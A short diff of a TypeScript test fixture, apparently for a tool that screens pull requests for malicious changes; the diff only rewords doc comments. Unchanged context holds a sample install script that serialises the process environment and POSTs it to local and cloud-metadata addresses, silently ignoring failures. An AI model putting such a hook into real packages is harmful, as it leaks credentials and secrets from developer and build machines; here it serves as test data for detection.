@@ -1,6 +1,6 @@
 import type { SamplePull, SamplePush } from '../repository.ts'
 
-/** Pass the screen; running them must find them out. */
+/** Pull requests that pass screening and must be rejected when they are executed. */
 export const bad: readonly (SamplePull | SamplePush)[] = [
   {
     number: 10,
@@ -113,7 +113,7 @@ test.each(Array.from({ length: 24 }, (_, at) => at))('a name is decoded, %i', (a
   },
 ]
 
-/** Runs when parts are installed: writes where it should not, calls out, and reads the environment. It never fails. */
+/** An install script that writes outside its folder, opens connections and reads the environment. It never fails. */
 const POSTINSTALL = `import { writeFileSync } from 'node:fs'
 
 const seen = JSON.stringify(process.env)
@@ -126,7 +126,7 @@ for (const host of ['127.0.0.1', '169.254.169.254'])
   await fetch('http://' + host + '/', { method: 'POST', body: seen, signal: AbortSignal.timeout(1000) }).catch(() => {})
 `
 
-/** Out before anything runs, and at last a tree whose install script is a stranger's. */
+/** Rejected before anything runs; the last one has a malicious install script. */
 export const rest: readonly (SamplePull | SamplePush)[] = [
   {
     number: 40,
